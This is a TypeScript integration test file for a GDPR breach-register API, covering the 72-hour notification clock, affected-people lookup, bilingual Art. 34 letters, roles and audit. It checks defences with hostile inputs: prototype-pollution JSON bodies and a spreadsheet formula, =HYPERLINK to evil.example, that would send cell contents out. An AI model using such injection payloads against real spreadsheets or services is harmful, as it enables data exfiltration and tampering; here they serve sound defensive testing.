import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql, startTestConsole, uniqueEmail, type TestConsole } from '../support/test-console';
import { postBatch } from '../support/ingest';

/**
 * The breach register (issue 21): create and edit with validation, the 72-hour clock, a late
 * notification needing its reasons, the decision not to notify, the people affected found from
 * the index (and those outside the window or the sources not counted), the Art. 34 letter in
 * both languages as the recipient reads it, the CSV and the printable register, roles, audit.
 */
const HOUR = 3_600_000;
const ago = (hours: number) => new Date(Date.now() - hours * HOUR).toISOString();

describe('personal-data breaches', () => {
  let c: TestConsole;
  let token: string;
  let auditor: string;
  let officer: string;
  let key: string;
  let processorId: string;

  const post = (path: string, body: unknown, as = token) => c.api(path, { method: 'POST', token: as, body });
  const put = (path: string, body: unknown, as = token) => c.api(path, { method: 'PUT', token: as, body });
  const get = (path: string, as = token) => c.api(path, { token: as });
  const ingest = (source: string, body: unknown) => postBatch(c, key, source, body);
  const events = async (entityId: string) =>
    sql<{ action: string; details: any }>(
      c,
      `SELECT action, details FROM audit_events WHERE entity_id = $1 ORDER BY id`,
      [entityId],
    );

  const valid = () => ({
    title: 'Contact-form inbox read by an intruder',
    description: 'A phished password let someone read the contact-form inbox.',
    startedAt: '2026-10-01T00:00:00Z',
    endedAt: '2026-10-10T00:00:00Z',
    awareAt: ago(10),
    nature: ['confidentiality'],
    sources: ['leads', 'chat-conversations', 'chat-messages'],
  });

  beforeAll(async () => {
    c = await startTestConsole();
    token = await c.login();
    for (const role of ['auditor', 'officer'] as const) {
      const user = { email: uniqueEmail(role), password: `${role} passphrase 2026` };
      expect((await post('/api/users', { ...user, fullName: role, role })).status).toBe(201);
      if (role === 'auditor') auditor = await c.login(user.email, user.password);
      else officer = await c.login(user.email, user.password);
    }
    key = (await post('/api/api-keys', { name: 'Website' })).body.key;
    processorId = (await get('/api/processors?range=[0,0]')).body[0].id;
    // In the window (1-10 October) and the sources: Giulia (lead, and her chat), Maria (lead).
    // Outside the window: Paolo's lead of 20 October. Outside the sources: Luca, only in consents.
    expect(
      (
        await ingest('leads', [
          {
            externalId: 'g',
            firstName: 'Giulia',
            lastName: 'Bianchi',
            email: 'giulia.bianchi@example.it',
            phone: '347 123 4567',
            submittedAt: '2026-10-02T10:00:00Z',
          },
          {
            externalId: 'm',
            firstName: 'Maria',
            lastName: 'Rossi',
            email: 'maria.rossi@example.it',
            submittedAt: '2026-10-03T10:00:00Z',
          },
          {
            externalId: 'p',
            firstName: 'Paolo',
            lastName: 'Verdi',
            email: 'paolo.verdi@example.it',
            submittedAt: '2026-10-20T10:00:00Z',
          },
        ])
      ).status,
    ).toBe(200);
    expect(
      (
        await ingest('chat-conversations', {
          externalId: 'g-chat',
          provider: 'anthropic',
          startedAt: '2026-10-05T18:00:00Z',
          messages: [
            {
              role: 'user',
              content: 'Sono Giulia, scrivete a giulia.bianchi@example.it',
              sentAt: '2026-10-05T18:00:05Z',
            },
            { role: 'assistant', content: 'Certo. Per urgenze: info@vimage.it', sentAt: '2026-10-05T18:00:07Z' },
          ],
        })
      ).status,
    ).toBe(200);
    expect(
      (
        await ingest('consents', [
          {
            externalId: 'l',
            consentId: 'cons-luca',
            email: 'luca.neri@example.it',
            categories: { necessary: true },
            action: 'grant',
            policyVersion: '2026-05',
            recordedAt: '2026-10-04T09:00:00Z',
          },
        ])
      ).status,
    ).toBe(200);
    // Maria wrote to the company in English once: her letter is in English.
    expect(
      (
        await post('/api/requests', {
          type: 'access',
          channel: 'email',
          language: 'en',
          receivedAt: new Date().toISOString(),
          subjectName: 'Maria Rossi',
          subjectEmail: 'maria.rossi@example.it',
        })
      ).status,
    ).toBe(201);
  });
  afterAll(() => c?.close());

  it('creates a breach, audited, with its clock running from awareness', async () => {
    const res = await post('/api/breaches', {
      ...valid(),
      processors: [{ processorId, noticeAt: ago(11), notes: 'Their SOC told us' }],
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const b = res.body;
    expect(b).toMatchObject({
      status: 'open',
      nature: ['confidentiality'],
      riskLevel: null,
      notifications: [],
      decisions: [],
    });
    expect(b.processors[0]).toMatchObject({ processorId, notes: 'Their SOC told us' });
    expect(b.processors[0].name).toEqual(expect.any(String));
    expect(b.contactDetails).toContain('privacy@vimage.it');
    expect(b.clock.state).toBe('running');
    expect(b.clock.remaining).toMatchObject({ hours: 61, minutes: 59 });
    expect(new Date(b.clock.deadline).getTime() - new Date(b.awareAt).getTime()).toBe(72 * HOUR);
    const audit = await events(b.id);
    expect(audit.map((e) => e.action)).toEqual(['breach.created']);
    expect(audit[0].details.after.title).toBe(valid().title);
  });

  it('refuses bad input with a 400 naming the field', async () => {
    const cases: Array<[Record<string, unknown>, string]> = [
      [{ nature: [] }, 'nature'],
      [{ nature: ['secrecy'] }, 'nature'],
      [{ sources: ['leads', 'payroll'] }, 'sources'],
      [{ awareAt: '2026-09-01T00:00:00Z' }, 'awareAt'],
      [{ awareAt: 'yesterday' }, 'awareAt'],
      [{ endedAt: '2026-09-01T00:00:00Z' }, 'endedAt'],
      [{ ongoing: true }, 'endedAt'],
      [{ riskLevel: 'medium' }, 'riskLevel'],
      [{ subjectsApprox: -1 }, 'subjectsApprox'],
      [{ processors: [{ processorId: '00000000-0000-4000-8000-000000000000' }] }, 'processors'],
      [{ title: '' }, 'title'],
      [{ isAdmin: true }, 'isAdmin'],
    ];
    for (const [change, field] of cases) {
      const res = await post('/api/breaches', { ...valid(), ...change });
      expect(res.status, `${JSON.stringify(change)}: ${JSON.stringify(res.body)}`).toBe(400);
      expect(
        Object.keys(res.body.errors ?? {}).some((k) => k === field || k.startsWith(`${field}.`)),
        `${field} in ${JSON.stringify(res.body)}`,
      ).toBe(true);
    }
    const { awareAt: _a, ...noAware } = valid();
    expect((await post('/api/breaches', noAware)).body.errors).toHaveProperty('awareAt');
  });

  it('never answers hostile input with a 500', async () => {
    for (const body of [
      '{"constructor":{"x":1}}',
      '{"__proto__":{"admin":true}}',
      '{"title":"a\\u0000b","description":"\\u0007","startedAt":"2026-10-01T00:00:00Z","awareAt":"2026-10-02T00:00:00Z","nature":["integrity"]}',
      '{"processors":[{"constructor":1}]}',
      '{"processors":[{"__proto__":{"x":1}}]}',
      '{"nature":{"__proto__":["integrity"]}}',
      '{"processors":[null]}',
      '{"processors":[1,"x"]}',
      '{"processors":[{"processorId":"00000000-0000-4000-8000-000000000000","noticeAt":"\\u0000"}]}',
      '{"title":null,"nature":null,"ongoing":null,"status":null}',
    ]) {
      const res = await c.api('/api/breaches', {
        method: 'POST',
        token,
        body,
        headers: { 'content-type': 'application/json' },
      });
      expect(res.status, `${body}: ${JSON.stringify(res.body)}`).toBeLessThan(500);
    }
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom(
        'constructor',
        '__proto__',
        'toString',
        'hasOwnProperty',
        '\u0000',
        '\u001b[31m',
        '\ud800',
        '=HYPERLINK("x")',
      ),
    );
    const value = fc.oneof(
      text,
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(text, { maxLength: 3 }),
      fc.dictionary(text, text, { maxKeys: 3 }),
    );
    const field = fc.constantFrom(
      'title',
      'description',
      'startedAt',
      'awareAt',
      'endedAt',
      'nature',
      'sources',
      'processors',
      'riskLevel',
      'subjectsApprox',
      'constructor',
      '__proto__',
      'valueOf',
    );
    const created = (await post('/api/breaches', valid())).body.id;
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(field, value, { maxKeys: 4 }),
        fc.constantFrom('POST', 'PUT', 'NOTIFY', 'DECIDE'),
        async (change, how) => {
          const body = how === 'POST' ? { ...valid(), ...change } : change;
          const path =
            how === 'POST'
              ? '/api/breaches'
              : how === 'PUT'
                ? `/api/breaches/${created}`
                : `/api/breaches/${created}/${how === 'NOTIFY' ? 'notifications' : 'decisions'}`;
          const res = await c.api(path, { method: how === 'PUT' ? 'PUT' : 'POST', token, body });
          expect(res.status, `${how} ${JSON.stringify(body)}: ${JSON.stringify(res.body)}`).toBeLessThan(500);
        },
      ),
      { numRuns: 40 },
    );
  });

  it('edits a breach as react-admin sends it back, audited before and after', async () => {
    const created = (await post('/api/breaches', { ...valid(), processors: [{ processorId, noticeAt: null }] })).body;
    expect(created.processors[0].name).toEqual(expect.any(String));
    // The form sends the processors back with their names, and an emptied contact as null: the default stays.
    const res = await put(`/api/breaches/${created.id}`, {
      ...created,
      contactName: null,
      riskLevel: 'high',
      riskReasoning: 'Names and e-mails with the messages: phishing is likely',
      subjectsApprox: 3,
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({
      riskLevel: 'high',
      subjectsApprox: 3,
      contactName: 'Vimage Srl',
      contactDetails: 'privacy@vimage.it',
    });
    const updated = (await events(created.id)).find((e) => e.action === 'breach.updated')!;
    expect(updated.details.before).toEqual({ riskLevel: null, riskReasoning: null, subjectsApprox: null });
    expect(updated.details.after).toMatchObject({ riskLevel: 'high', subjectsApprox: 3 });
  });

  it('lets auditors read but not write', async () => {
    const created = (await post('/api/breaches', valid())).body;
    expect((await get(`/api/breaches/${created.id}`, auditor)).status).toBe(200);
    expect((await get('/api/breaches', auditor)).headers.get('content-range')).toMatch(/^breaches \d+-\d+\/\d+$/);
    expect((await post('/api/breaches', valid(), auditor)).status).toBe(403);
    expect((await put(`/api/breaches/${created.id}`, { title: 'x' }, auditor)).status).toBe(403);
    expect(
      (await post(`/api/breaches/${created.id}/decisions`, { kind: 'notify_authority', decidedBy: 'x' }, auditor))
        .status,
    ).toBe(403);
    expect((await post('/api/breaches', valid(), officer)).status).toBe(201);
  });

  it('is overdue after 72 hours; a late notification needs the reasons for the delay', async () => {
    const late = (await post('/api/breaches', { ...valid(), awareAt: ago(80) })).body;
    expect(late.clock.state).toBe('overdue');
    expect(late.clock.remaining.totalMinutes).toBeLessThan(-7 * 60);
    const path = `/api/breaches/${late.id}/notifications`;
    expect((await post(path, { kind: 'supplementary', at: ago(1), protocolNumber: 'X' })).status).toBe(409);
    const missing = await post(path, { kind: 'initial', at: ago(1), protocolNumber: 'GPDP-2026-0001' });
    expect(missing.status).toBe(400);
    expect(missing.body.errors).toHaveProperty('delayReasons');
    const ok = await post(path, {
      kind: 'initial',
      at: ago(1),
      protocolNumber: 'GPDP-2026-0001',
      delayReasons: 'The processor told us on the fourth day',
    });
    expect(ok.status, JSON.stringify(ok.body)).toBe(201);
    expect(ok.body.clock).toMatchObject({ state: 'notified_late', remaining: null });
    expect(ok.body.notifiedAt).toBe(ok.body.notifications[0].at);
    const more = await post(path, {
      kind: 'supplementary',
      at: ago(0.5),
      protocolNumber: 'GPDP-2026-0001',
      notes: 'Final number of people: 3',
    });
    expect(more.status).toBe(201);
    expect(more.body.notifications.map((n: any) => n.kind)).toEqual(['initial', 'supplementary']);
    expect((await post(path, { kind: 'initial', at: ago(0.2), protocolNumber: 'Y', delayReasons: 'x' })).status).toBe(
      409,
    );
    expect((await events(late.id)).filter((e) => e.action === 'breach.notified')).toHaveLength(2);
  });

  it('stops the clock in time when notified within 72 hours, without reasons', async () => {
    const b = (await post('/api/breaches', { ...valid(), awareAt: ago(71) })).body;
    const res = await post(`/api/breaches/${b.id}/notifications`, {
      kind: 'initial',
      at: ago(0),
      protocolNumber: 'GPDP-2026-0002',
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.clock.state).toBe('notified_in_time');
  });

  it('decides not to notify only with a reason and a risk assessed as unlikely', async () => {
    const b = (await post('/api/breaches', { ...valid(), riskLevel: 'risk' })).body;
    const path = `/api/breaches/${b.id}/decisions`;
    const noReason = await post(path, { kind: 'not_notify_authority', decidedBy: 'Anna Conti, privacy officer' });
    expect(noReason.status).toBe(400);
    expect(noReason.body.errors).toHaveProperty('reason');
    expect(
      (await post(path, { kind: 'not_notify_authority', reason: 'Encrypted', decidedBy: 'Anna Conti' })).status,
    ).toBe(409);
    await put(`/api/breaches/${b.id}`, {
      riskLevel: 'none',
      riskReasoning: 'The laptop was encrypted and the key was not with it',
    });
    const ok = await post(path, {
      kind: 'not_notify_authority',
      reason: 'Encrypted laptop, key safe: unlikely to result in a risk',
      decidedBy: 'Anna Conti, privacy officer',
    });
    expect(ok.status, JSON.stringify(ok.body)).toBe(201);
    expect(ok.body.clock.state).toBe('not_required');
    expect(ok.body.authorityDecision).toMatchObject({
      kind: 'not_notify_authority',
      decidedBy: 'Anna Conti, privacy officer',
    });
    expect((await events(b.id)).map((e) => e.action)).toContain('breach.decided');
  });

  it('finds the people affected from the index: the breach’s sources and window only', async () => {
    const b = (await post('/api/breaches', valid())).body;
    const count = await get(`/api/breaches/${b.id}/affected/count`);
    expect(count.status).toBe(200);
    // Giulia and Maria; not Paolo (after the window), not Luca (consents only), not info@vimage.it.
    expect(count.body.people).toBe(2);
    expect(count.body.byKind).toEqual({ email: 2 });
    expect(count.body.recordsBySource).toMatchObject({ leads: 2, 'chat-conversations': 1, 'chat-messages': 2 });
    const before = (
      await sql(c, `SELECT count(*)::int AS n FROM audit_events WHERE action = 'breach.affected_listed'`)
    )[0].n;
    const list = await get(`/api/breaches/${b.id}/affected?range=[0,24]`, auditor);
    expect(list.status).toBe(200);
    expect(list.headers.get('content-range')).toBe('breach-affected 0-1/2');
    expect(list.body.map((p: any) => p.value)).toEqual(['giulia.bianchi@example.it', 'maria.rossi@example.it']);
    const giulia = list.body[0];
    expect(giulia.sources).toEqual(['chat-messages', 'leads']);
    expect(giulia.fields).toEqual(expect.arrayContaining(['email', 'phone']));
    expect(list.body[1].language).toBe('en');
    const read = await sql(
      c,
      `SELECT details FROM audit_events WHERE action = 'breach.affected_listed' ORDER BY id DESC LIMIT 1`,
    );
    expect(
      (await sql(c, `SELECT count(*)::int AS n FROM audit_events WHERE action = 'breach.affected_listed'`))[0].n,
    ).toBe(before + 1);
    expect(read[0].details).toMatchObject({ returned: 2, total: 2 });
    expect(JSON.stringify(read[0].details)).not.toContain('@example.it');
    // Second page: a count, not a page, tells the total.
    const second = await get(`/api/breaches/${b.id}/affected?range=[1,1]`);
    expect(second.headers.get('content-range')).toBe('breach-affected 1-1/2');
    // Paolo is in once the window reaches him; Luca once consents are among the sources.
    await put(`/api/breaches/${b.id}`, { endedAt: '2026-10-25T00:00:00Z', sources: ['leads', 'consents'] });
    expect((await get(`/api/breaches/${b.id}/affected/count`)).body.people).toBe(4);
    await put(`/api/breaches/${b.id}`, { dataFrom: '2026-10-03T00:00:00Z' });
    expect((await get(`/api/breaches/${b.id}/affected?range=[0,24]`)).body.map((p: any) => p.value)).toEqual([
      'luca.neri@example.it',
      'maria.rossi@example.it',
      'paolo.verdi@example.it',
    ]);
  });

  it('writes the Art. 34 letter in each language, as the recipient reads it, and exports the recipients', async () => {
    const b = (await post('/api/breaches', { ...valid(), riskLevel: 'high' })).body;
    const draft = await get(`/api/breaches/${b.id}/communication?lang=it`);
    expect(draft.body.missing).toEqual(['noticeNatureIt', 'noticeConsequencesIt', 'noticeMeasuresIt']);
    expect((await get(`/api/breaches/${b.id}/communication/recipients.csv`)).status).toBe(409);
    await put(`/api/breaches/${b.id}`, {
      contactName: 'Anna Conti, referente privacy',
      contactDetails: 'privacy@vimage.it, 041 000000',
      noticeNatureIt: 'Una persona non autorizzata ha letto i messaggi del modulo di contatto.',
      noticeNatureEn: 'An unauthorised person read the messages of the contact form.',
      noticeConsequencesIt: 'Potrebbe ricevere e-mail di phishing a nome nostro.',
      noticeConsequencesEn: 'You may receive phishing e-mails in our name.',
      noticeMeasuresIt:
        'Abbiamo cambiato le password e attivato la verifica in due passaggi. Non apra allegati inattesi.',
      noticeMeasuresEn:
        'We changed the passwords and turned on two-step verification. Do not open unexpected attachments.',
    });
    const it = (await get(`/api/breaches/${b.id}/communication?lang=it`)).body;
    const en = (await get(`/api/breaches/${b.id}/communication?lang=en`)).body;
    expect(it.missing).toEqual([]);
    const words = (t: string) => new Set(t.split(/[^\p{L}]+/u));
    const itWords = words(`${it.subject} ${it.body}`);
    expect(['the', 'and', 'you', 'your', 'we', 'what', 'of', 'to'].filter((w) => itWords.has(w))).toEqual([]);
    const enWords = words(
      `${en.subject} ${en.body}`
        .replace('Garante per la protezione dei dati personali', '')
        .replace('Anna Conti, referente privacy', ''),
    );
    expect(
      ['il', 'della', 'che', 'Lei', 'dati', 'violazione', 'abbiamo', 'è', 'Gentile'].filter((w) => enWords.has(w)),
    ).toEqual([]);
    // Art. 34(2): nature, contact point, consequences, measures.
    for (const [letter, nature, consequences, measures] of [
      [it.body, 'Una persona non autorizzata', 'phishing a nome nostro', 'verifica in due passaggi'],
      [en.body, 'An unauthorised person', 'phishing e-mails in our name', 'two-step verification'],
    ]) {
      expect(letter).toContain(nature);
      expect(letter).toContain(consequences);
      expect(letter).toContain(measures);
      expect(letter).toContain('Anna Conti, referente privacy: privacy@vimage.it, 041 000000');
    }
    const csv = await get(`/api/breaches/${b.id}/communication/recipients.csv`);
    expect(csv.status).toBe(200);
    const text = String(csv.body);
    expect(text).toContain('giulia.bianchi@example.it,it,');
    expect(text).toContain('maria.rossi@example.it,en,');
    expect(text).toContain('A breach of your personal data');
    expect(text).toContain('Comunicazione di una violazione');
    expect((await get(`/api/breaches/${b.id}/communication/recipients.csv`, auditor)).status).toBe(403);
    expect((await events(b.id)).map((e) => e.action)).toContain('breach.recipients_exported');
  });

  it('records each person told, once, without their address in the audit log', async () => {
    const b = (await post('/api/breaches', valid())).body;
    const path = `/api/breaches/${b.id}/communications`;
    const res = await post(path, { kind: 'email', value: 'Maria.Rossi@example.it', channel: 'email', sentAt: ago(1) });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ value: 'maria.rossi@example.it', language: 'en', channel: 'email' });
    expect(
      (await post(path, { kind: 'email', value: 'maria.rossi@example.it', channel: 'post', sentAt: ago(1) })).status,
    ).toBe(409);
    expect(
      (await post(path, { kind: 'email', value: 'x@example.it', channel: 'pigeon', sentAt: ago(1) })).body.errors,
    ).toHaveProperty('channel');
    const list = (await get(`/api/breaches/${b.id}/affected`)).body;
    expect(list.find((p: any) => p.value === 'maria.rossi@example.it')).toMatchObject({
      channel: 'email',
      communicatedAt: expect.any(String),
    });
    expect(list.find((p: any) => p.value === 'giulia.bianchi@example.it')).toMatchObject({
      channel: null,
      communicatedAt: null,
    });
    const told = (await events(b.id)).find((e) => e.action === 'breach.communicated')!;
    expect(JSON.stringify(told.details)).not.toContain('maria');
  });

  it('exports the register as CSV, with formulas neutralised, and as a printable page in both languages', async () => {
    await post('/api/breaches', { ...valid(), title: '=HYPERLINK("http://evil.example/?"&A1,"x")', riskLevel: 'risk' });
    const csv = await get('/api/breaches/export.csv', auditor);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const text = String(csv.body);
    expect(text.replace(/^\ufeff/, '').startsWith('Title,Status,')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    const it = await get('/api/breaches/register.html?lang=it', auditor);
    expect(it.status).toBe(200);
    expect(String(it.body)).toContain('Registro delle violazioni dei dati personali');
    expect(String(it.body)).toContain('Art. 33, par. 5');
    expect(String(it.body)).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;');
    const en = await get('/api/breaches/register.html?lang=en');
    expect(String(en.body)).toContain('Register of personal data breaches');
    expect(String(en.body)).not.toContain('Registro delle violazioni');
    expect((await get('/api/breaches/register.html?lang=de')).status).toBe(400);
  });

  it('answers 404 for an unknown breach and 400 for a malformed id', async () => {
    expect((await get('/api/breaches/00000000-0000-4000-8000-000000000000')).status).toBe(404);
    expect((await get('/api/breaches/not-an-id')).status).toBe(400);
    expect((await get('/api/breaches/00000000-0000-4000-8000-000000000000/affected/count')).status).toBe(404);
  });
});
